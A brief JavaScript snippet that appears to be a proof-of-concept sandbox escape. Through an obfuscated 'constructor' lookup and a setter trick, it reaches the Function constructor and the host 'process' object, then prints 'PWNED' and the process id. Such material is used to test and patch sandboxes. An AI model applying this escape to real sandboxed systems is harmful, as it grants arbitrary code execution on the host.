const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
let g;
class S { set go(f) { g = f; } }
Object.assign(new S(), t);
console.log('PWNED', g(fn)('return process')().pid);
